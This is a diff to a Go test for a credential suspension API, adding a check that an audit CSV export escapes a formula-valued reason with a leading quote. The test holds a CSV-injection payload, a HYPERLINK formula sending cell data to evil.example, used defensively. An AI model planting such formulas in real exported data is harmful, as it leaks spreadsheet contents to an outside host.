@@ -203,6 +203,18 @@ func TestRevocationAndSuspension(t *testing.T) {
 		if err != nil || len(rows) != 2 || rows[1][3] != "credential.suspended" || rows[1][6] != "under review" {
 			t.Fatalf("audit CSV: %v %q", err, body)
 		}
+		// A reason that a spreadsheet program would run as a formula is
+		// written with a leading quote in audit.csv (issue 10, item 9).
+		formula := `=HYPERLINK("https://evil.example/?d="&A1,"details")`
+		reason, _ := json.Marshal(map[string]string{"reason": formula})
+		if resp, body := h.Do(t, "registrar", "POST", "/api/v1/credentials/"+c.ID+"/suspend", "application/json", bytes.NewReader(reason)); resp.StatusCode != 200 {
+			t.Fatalf("suspend C: %d %s", resp.StatusCode, body)
+		}
+		_, body = h.Do(t, "admin", "GET", "/api/v1/audit?format=csv&action=credential.suspended&object_id="+c.ID, "", nil)
+		rows, err = csv.NewReader(bytes.NewReader(body)).ReadAll()
+		if err != nil || len(rows) != 2 || rows[1][6] != "'"+formula {
+			t.Fatalf("audit CSV with a formula: %v %q", err, body)
+		}
 	})
 }
 
